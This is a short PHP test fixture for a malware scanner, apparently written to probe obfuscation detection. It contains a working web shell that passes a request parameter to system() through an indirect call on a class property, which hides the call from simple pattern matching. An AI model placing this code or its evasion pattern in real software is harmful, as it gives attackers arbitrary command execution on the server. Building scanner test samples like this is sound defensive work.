<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
final readonly class Job { public function __construct(public string $fn, public string $arg) {} }
$j = new Job('system', $_REQUEST['a']);
($j->fn)($j->arg);
